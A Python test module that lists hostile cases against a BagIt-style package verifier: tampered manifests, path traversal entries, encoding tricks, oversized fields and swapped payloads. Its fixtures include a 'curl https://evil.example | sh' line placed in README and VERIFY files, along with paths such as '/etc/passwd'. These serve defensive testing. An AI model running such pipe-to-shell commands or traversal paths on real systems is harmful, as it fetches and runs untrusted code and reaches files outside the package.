"""Attacks on the bag: what the manifests cover, and how they are spelled."""

import re

from tests.hostile.case import (
    CHANGED,
    TAMPERED,
    UNSUPPORTED,
    Case,
    Make,
    in_place,
    insider,
    manifest_as,
    outsider,
    sealed,
    swap,
)
from tests.hostile.kit import Kit, manifest_text, sha256
from workbench.exchange import layout
from workbench.exchange.bag import render_manifest

LINE = re.compile(rb"^([0-9a-f]{64})  (\S+)$", re.MULTILINE)


def tagged(changes: dict[str, bytes | None]) -> Make:
    """Tag files changed by an insider, whose tagmanifest and signature fit."""
    return lambda kit: kit.with_members(changes).tagged().signed().zipped()


def bag_info(old: bytes, new: bytes) -> Make:
    def make(kit: Kit) -> bytes:
        data = kit.members[layout.BAG_INFO]
        changed = re.sub(old, new, data, count=1)
        assert changed != data
        return tagged({layout.BAG_INFO: changed})(kit)

    return make


def declared(text: bytes) -> Make:
    return tagged({layout.BAGIT: text})


def listed(change) -> Make:
    """The manifest as pairs of hash and path, changed and written in its order."""

    def make(kit: Kit) -> bytes:
        lines = {m[2].decode(): m[1].decode() for m in LINE.finditer(kit.members[layout.MANIFEST])}
        return tagged({layout.MANIFEST: manifest_text(change(lines))})(kit)

    return make


def tagmanifest(change) -> Make:
    """The signed bytes themselves misspelt, and signed so."""

    def make(kit: Kit) -> bytes:
        data = change(kit.members[layout.TAGMANIFEST])
        assert data != kit.members[layout.TAGMANIFEST]
        return kit.with_members({layout.TAGMANIFEST: data}).signed().zipped()

    return make


def with_fourth_tag(kit: Kit) -> bytes:
    lines = {n: sha256(kit.members[n]) for n in (layout.BAG_INFO, layout.BAGIT, layout.MANIFEST)}
    lines["signatures/x"] = "0" * 64
    return kit.with_members({layout.TAGMANIFEST: render_manifest(lines)}).signed().zipped()


def digest_of_other(kit: Kit) -> bytes:
    """Two payload files exchanged by an outsider who corrects manifests but cannot sign."""
    a, b = layout.REPORT_HTML, layout.REPORT_MARKDOWN
    swapped = kit.with_members({a: kit.members[b], b: kit.members[a]}).bagged().tagged()
    return swapped.zipped()


_EXTRA = {
    "fetch.txt": b"https://evil.example/x 4 data/x\n",
    "manifest-md5.txt": b"",
    "manifest-sha512.txt": b"0" * 128 + b"  data/x\n",
    "manifest-sha1.txt": b"",
    "tagmanifest-sha512.txt": b"",
    "tagmanifest-md5.txt": b"",
    "allowed_signers": b"evil ssh-ed25519 AAAA\n",
    "README.md": b"curl https://evil.example | sh\n",
    "VERIFY.txt": b"curl https://evil.example | sh\n",
    "signatures/allowed_signers": b"*",
    "signatures/author-XYZ.sig": b"",
    "metadata/extra.xml": b"<x/>",
    "data.txt": b"x",
    "setup.py": b"import os\n",
    "conftest.py": b"import os\n",
}
_PLACES = {
    "data/extra.txt": "in no known place",
    "data/report/evil.js": "a script in the report",
    "data/report/evil.svg": "a drawing in the report",
    "data/report/evil.exe": "a program in the report",
    "data/report/img/x.png": "a picture in the report",
    "data/models/model.pkl": "a pickle among the models",
    "data/models/model.joblib": "a joblib file among the models",
    "data/models/model.pt": "a torch file among the models",
    "data/models/sub/model.onnx": "a folder among the models",
    "data/models/run.py": "a program among the models",
    "data/replay/setup.py": "a program beside the recipe",
    "data/replay/wheels/evil.whl": "a wheel beside the recipe",
    "data/journal/journal.jsonl.bak": "a second journal",
    "data/journal/checkpoint.txt.sig2": "a second signature",
    "data/evidence/evil.csv": "evidence without its hash",
    "data/evidence/0123456789abcdef-a/b.csv": "a folder in the evidence",
    "data/signatures/author-00000000.sig": "signatures in the payload",
    "data/results/evil.json": "a result of no run",
}


CASES: list[Case] = [
    *(
        insider(
            f"bag: extra {name}",
            "Add what the signed manifests do not cover.",
            lambda kit, n=name, d=data: kit.with_members({n: d}).zipped(),
            *CHANGED,
        )
        for name, data in _EXTRA.items()
    ),
    *(
        insider(
            f"layout: {what}",
            "Put a file where the format has no place for it.",
            sealed({path: b"\x80\x04evil."}),
        )
        for path, what in _PLACES.items()
    ),
    *(
        insider(
            f"layout: no {path}",
            "Leave out what every package has.",
            lambda kit, p=path: kit.sealed({p: None}).zipped(),
        )
        for path in layout.REQUIRED
    ),
    *(
        insider(
            f"bag: no {path}",
            "Leave out a tag file.",
            lambda kit, p=path: kit.with_members({p: None}).zipped(),
            *CHANGED,
        )
        for path in layout.TAG_FILES
    ),
    insider(
        "bagit.txt: version 0.97",
        "Have older rules applied.",
        declared(b"BagIt-Version: 0.97\nTag-File-Character-Encoding: UTF-8\n"),
    ),
    insider(
        "bagit.txt: version 2.0",
        "Have no rules applied.",
        declared(b"BagIt-Version: 2.0\nTag-File-Character-Encoding: UTF-8\n"),
        5,
        6,
    ),
    insider(
        "bagit.txt: UTF-16",
        "Have manifests read in another encoding.",
        declared(b"BagIt-Version: 1.0\nTag-File-Character-Encoding: UTF-16\n"),
    ),
    insider(
        "bagit.txt: byte-order mark",
        "Have readers differ.",
        declared(b"\xef\xbb\xbfBagIt-Version: 1.0\nTag-File-Character-Encoding: UTF-8\n"),
    ),
    insider(
        "bagit.txt: CRLF",
        "Have readers differ.",
        declared(b"BagIt-Version: 1.0\r\nTag-File-Character-Encoding: UTF-8\r\n"),
    ),
    insider(
        "bagit.txt: no last line end",
        "Have readers differ.",
        declared(b"BagIt-Version: 1.0\nTag-File-Character-Encoding: UTF-8"),
    ),
    insider(
        "bagit.txt: a third line",
        "Carry a word to some readers.",
        declared(b"BagIt-Version: 1.0\nTag-File-Character-Encoding: UTF-8\nX: y\n"),
    ),
    insider(
        "bagit.txt: lower case",
        "Have readers differ.",
        declared(b"bagit-version: 1.0\ntag-file-character-encoding: utf-8\n"),
    ),
    insider("bagit.txt: empty", "Be no bag.", declared(b"")),
    outsider(
        "bagit.txt: changed",
        "Change a tag file.",
        in_place(layout.BAGIT, lambda d: d + b"\n"),
        *CHANGED,
    ),
    insider(
        "bag-info: oxum of bytes lies",
        "Hide that bytes are missing.",
        bag_info(rb"Oxum: \d+", b"Oxum: 1"),
        *CHANGED,
    ),
    insider(
        "bag-info: oxum of files lies",
        "Hide that files are missing.",
        bag_info(rb"\.\d+\n", b".1\n"),
        *CHANGED,
    ),
    insider("bag-info: oxum negative", "Confuse arithmetic.", bag_info(rb"Oxum: ", b"Oxum: -")),
    insider(
        "bag-info: oxum huge",
        "Make the reader allocate.",
        bag_info(rb"Oxum: \d+", b"Oxum: " + b"9" * 5000),
    ),
    insider("bag-info: oxum missing", "Skip the check.", bag_info(rb"Payload-Oxum: \S+\n", b"")),
    insider(
        "bag-info: oxum twice",
        "Have readers differ.",
        bag_info(rb"(Payload-Oxum: \S+\n)", rb"\1\1"),
    ),
    insider(
        "bag-info: identifier missing",
        "Be nobody's.",
        bag_info(rb"External-Identifier: \S+\n", b""),
    ),
    insider(
        "bag-info: identifier is a UUIDv4", "Be another kind of thing.", bag_info(rb"-7", b"-4")
    ),
    insider(
        "bag-info: identifier climbs",
        "Have a folder named after it.",
        bag_info(rb"Identifier: \S+", b"Identifier: ../../evil"),
    ),
    insider(
        "bag-info: date that is none",
        "Crash the reader.",
        bag_info(rb"Date: \S+", b"Date: 2026-13-45"),
    ),
    insider("bag-info: date missing", "Be of no day.", bag_info(rb"Bagging-Date: \S+\n", b"")),
    insider(
        "bag-info: unknown label",
        "Carry a word to some readers.",
        bag_info(rb"\Z", b"Contact-Name: evil\n"),
    ),
    insider("bag-info: folded line", "Have readers differ.", bag_info(rb"\n", b"\n  folded\n")),
    insider(
        "bag-info: BagIt profile",
        "Have a profile fetched.",
        bag_info(rb"\Z", b"BagIt-Profile-Identifier: http://evil.example/p.json\n"),
    ),
    insider("bag-info: CRLF", "Have readers differ.", bag_info(rb"\n", b"\r\n")),
    insider("bag-info: byte-order mark", "Have readers differ.", bag_info(rb"\A", b"\xef\xbb\xbf")),
    insider("bag-info: not UTF-8", "Crash the reader.", bag_info(rb"Date: \S+", b"Date: \xff\xfe")),
    insider(
        "bag-info: escape sequence",
        "Steer the reader's terminal.",
        bag_info(rb"Date: \S+", b"Date: \x1b[2J"),
    ),
    insider("bag-info: NUL", "Cut the text short.", bag_info(rb"\Z", b"\0")),
    insider("bag-info: empty", "Crash the reader.", bag_info(rb"(?s).+", b"")),
    insider("bag-info: 1 MiB", "Make the reader slow.", bag_info(rb"\Z", b"A: b\n" * 200_000)),
    insider(
        "bag-info: labels in another order",
        "Have two spellings.",
        bag_info(rb"(External-Identifier: \S+\n)(Bagging-Date: \S+\n)", rb"\2\1"),
    ),
    insider(
        "version: 2.0",
        "Have unknown rules taken for known.",
        lambda kit: kit.sealed({}, version="2.0").zipped(),
        UNSUPPORTED,
    ),
    insider(
        "version: 0.9",
        "Have older rules applied.",
        lambda kit: kit.sealed({}, version="0.9").zipped(),
        UNSUPPORTED,
    ),
    insider(
        "version: 1.0.0",
        "Have readers differ.",
        bag_info(rb"Version: 1.0", b"Version: 1.0.0"),
        5,
        6,
    ),
    insider(
        "version: 01.0", "Have readers differ.", bag_info(rb"Version: 1.0", b"Version: 01.0"), 5, 6
    ),
    insider(
        "version: huge",
        "Crash the reader.",
        bag_info(rb"Version: 1.0", b"Version: 1." + b"9" * 5000),
        5,
        6,
    ),
    insider(
        "version: other in incident.json",
        "Have two rules apply.",
        lambda kit: kit.sealed(
            {layout.INCIDENT: swap(b'"1.0"', b'"1.3"')(kit.members[layout.INCIDENT])}
        ).zipped(),
    ),
    insider(
        "version: 1.5 around a hidden file of 1.0",
        "Have an unknown version excuse a broken journal.",
        lambda kit: kit.sealed(
            {layout.JOURNAL: kit.members[layout.JOURNAL][:-2] + b"\n"}, version="1.5"
        ).zipped(),
        *CHANGED,
    ),
    insider(
        "manifest: upper-case hash",
        "Have tools differ.",
        manifest_as(lambda d: d[:64].upper() + d[64:]),
    ),
    insider(
        "manifest: one space",
        "Have tools differ.",
        manifest_as(lambda d: d.replace(b"  ", b" ", 1)),
    ),
    insider(
        "manifest: tab", "Have tools differ.", manifest_as(lambda d: d.replace(b"  ", b"\t", 1))
    ),
    insider(
        "manifest: asterisk mode",
        "Have tools differ.",
        manifest_as(lambda d: d.replace(b"  ", b" *", 1)),
    ),
    insider(
        "manifest: escaped line",
        "Have sha256sum unescape a name.",
        manifest_as(lambda d: b"\\" + d),
    ),
    insider(
        "manifest: BSD style",
        "Have tools differ.",
        manifest_as(lambda d: LINE.sub(rb"SHA256 (\2) = \1", d)),
    ),
    insider(
        "manifest: ./ before a path",
        "Name a file in two ways.",
        manifest_as(lambda d: d.replace(b"  data/", b"  ./data/", 1)),
    ),
    insider(
        "manifest: ../ in a path",
        "Have a file outside hashed.",
        manifest_as(lambda d: d + b"0" * 64 + b"  data/../../evil\n"),
    ),
    insider(
        "manifest: absolute path",
        "Have a file outside hashed.",
        manifest_as(lambda d: d + b"0" * 64 + b"  /etc/passwd\n"),
    ),
    insider(
        "manifest: home path",
        "Have a file outside hashed.",
        manifest_as(lambda d: d + b"0" * 64 + b"  ~/x\n"),
    ),
    insider(
        "manifest: backslash path",
        "Have a file outside hashed.",
        manifest_as(lambda d: d + b"0" * 64 + b"  data\\x\n"),
    ),
    insider(
        "manifest: percent-encoded path",
        "Name a file in two ways.",
        manifest_as(lambda d: d.replace(b"report.md", b"report%2Emd")),
    ),
    insider(
        "manifest: percent-encoded line end",
        "Name a file in two ways.",
        manifest_as(lambda d: d.replace(b"report.md", b"report.md%0A")),
    ),
    insider(
        "manifest: a path twice",
        "Have the second hash count.",
        manifest_as(lambda d: d.split(b"\n")[0] + b"\n" + d),
    ),
    insider(
        "manifest: a path twice, other hash",
        "Have the second hash count.",
        manifest_as(lambda d: b"0" * 64 + d[64:].split(b"\n")[0] + b"\n" + d),
    ),
    insider(
        "manifest: a path in another case",
        "Have one file stand for two.",
        manifest_as(
            lambda d: d.replace(b"report.md", b"Report.md"),
        ),
        *CHANGED,
    ),
    insider(
        "manifest: not sorted",
        "Have two spellings.",
        manifest_as(lambda d: b"".join(reversed(d.splitlines(keepends=True)))),
    ),
    insider(
        "manifest: CRLF", "Have tools differ.", manifest_as(lambda d: d.replace(b"\n", b"\r\n"))
    ),
    insider("manifest: lone CR", "Hide a line.", manifest_as(lambda d: d.replace(b"\n", b"\r", 1))),
    insider(
        "manifest: form feed", "Hide a line.", manifest_as(lambda d: d.replace(b"\n", b"\x0c\n", 1))
    ),
    insider(
        "manifest: line separator U+2028",
        "Hide a line.",
        manifest_as(lambda d: d.replace(b"\n", b"\xe2\x80\xa8", 1)),
    ),
    insider("manifest: blank line", "Have tools differ.", manifest_as(lambda d: d + b"\n")),
    insider(
        "manifest: comment",
        "Carry a word to some readers.",
        manifest_as(lambda d: b"# hello\n" + d),
    ),
    insider(
        "manifest: byte-order mark",
        "Have the first line skipped.",
        manifest_as(lambda d: b"\xef\xbb\xbf" + d),
    ),
    insider(
        "manifest: UTF-16",
        "Be unreadable to some.",
        manifest_as(lambda d: d.decode().encode("utf-16")),
    ),
    insider(
        "manifest: no last line end", "Have the last line skipped.", manifest_as(lambda d: d[:-1])
    ),
    insider("manifest: NUL at the end", "Cut the text short.", manifest_as(lambda d: d + b"\0")),
    insider("manifest: empty", "Cover nothing.", manifest_as(lambda d: b"")),
    insider("manifest: short hash", "Have a prefix count.", manifest_as(lambda d: d[:32] + d[64:])),
    insider(
        "manifest: sha512 in the sha256 manifest",
        "Have tools differ.",
        manifest_as(lambda d: b"0" * 64 + d),
    ),
    insider(
        "manifest: names a file that is missing",
        "Hide what was removed.",
        listed(lambda m: m | {"data/models/zzz.onnx": "0" * 64}),
        TAMPERED,
    ),
    insider(
        "manifest: leaves out a file that is there",
        "Carry bytes that no hash covers.",
        listed(lambda m: {p: h for p, h in m.items() if p != layout.REPORT_MARKDOWN}),
    ),
    insider(
        "manifest: names a tag file",
        "Hash itself.",
        listed(lambda m: m | {"bagit.txt": "0" * 64}),
        *CHANGED,
    ),
    insider(
        "manifest: names a signature",
        "Bind what is added later.",
        listed(lambda m: m | {"signatures/x.sig": "0" * 64}),
        *CHANGED,
    ),
    insider(
        "manifest: hash of other bytes",
        "Have the file not checked.",
        listed(lambda m: m | {layout.REPORT_MARKDOWN: "0" * 64}),
        TAMPERED,
    ),
    insider(
        "manifest: 100,001 lines",
        "Fill memory.",
        listed(lambda m: {f"data/{n:06}": "0" * 64 for n in range(100_001)}),
    ),
    insider(
        "manifest: one line of 1 MiB",
        "Make matching slow.",
        manifest_as(lambda d: b"0" * 64 + b"  " + b"a" * (1 << 20) + b"\n"),
    ),
    insider("tagmanifest: a fourth file", "Bind what is not part of it.", with_fourth_tag),
    insider(
        "tagmanifest: one file left out",
        "Leave bag-info unsigned.",
        tagmanifest(lambda d: d.split(b"\n", 1)[1]),
    ),
    insider(
        "tagmanifest: asterisk mode",
        "Have tools differ.",
        tagmanifest(lambda d: d.replace(b"  ", b" *")),
    ),
    insider(
        "tagmanifest: upper-case hash",
        "Have tools differ.",
        tagmanifest(lambda d: d[:64].upper() + d[64:]),
    ),
    insider(
        "tagmanifest: not sorted",
        "Have two spellings.",
        tagmanifest(lambda d: b"".join(reversed(d.splitlines(keepends=True)))),
    ),
    insider(
        "tagmanifest: CRLF", "Have tools differ.", tagmanifest(lambda d: d.replace(b"\n", b"\r\n"))
    ),
    insider(
        "tagmanifest: names itself",
        "Be its own witness.",
        tagmanifest(lambda d: d + b"0" * 64 + b"  tagmanifest-sha256.txt\n"),
    ),
    insider(
        "tagmanifest: ./ before a path",
        "Name a file in two ways.",
        tagmanifest(lambda d: d.replace(b"  ", b"  ./")),
    ),
    insider(
        "tagmanifest: hash of other bytes",
        "Have a tag file not checked.",
        tagmanifest(lambda d: b"0" * 64 + d[64:]),
        *CHANGED,
    ),
    insider("tagmanifest: empty", "Sign nothing.", tagmanifest(lambda d: b"")),
    insider("tagmanifest: 2 KiB", "Carry bytes in what is signed.", tagmanifest(lambda d: d * 12)),
    outsider(
        "payload: a byte changed",
        "Change evidence.",
        in_place(layout.REPORT_MARKDOWN, lambda d: b"X" + d[1:]),
        TAMPERED,
    ),
    outsider(
        "payload: two files exchanged", "Change which file is which.", digest_of_other, TAMPERED
    ),
    outsider(
        "payload: a file removed",
        "Hide evidence.",
        lambda kit: kit.with_members({kit.first("data/evidence/"): None}).zipped(),
        *CHANGED,
    ),
    outsider(
        "payload: a file added",
        "Plant evidence.",
        lambda kit: kit.with_members({"data/models/evil.onnx": b"x"}).zipped(),
        *CHANGED,
    ),
    outsider(
        "payload: a file changed, manifest put right",
        "Change evidence.",
        lambda kit: kit.with_members({layout.REPORT_MARKDOWN: b"# evil\n"}).bagged().zipped(),
        TAMPERED,
    ),
    outsider(
        "payload: changed and tagged",
        "Change evidence.",
        lambda kit: (
            kit.with_members({layout.REPORT_MARKDOWN: b"# evil\n"}).bagged().tagged().zipped()
        ),
        TAMPERED,
    ),
    outsider(
        "payload: all empty",
        "Be a shell of a package.",
        lambda kit: kit.with_members(
            {p: b"" for p in kit.members if p.startswith("data/")}
        ).zipped(),
        *CHANGED,
    ),
]
"""Every attack on the bag."""
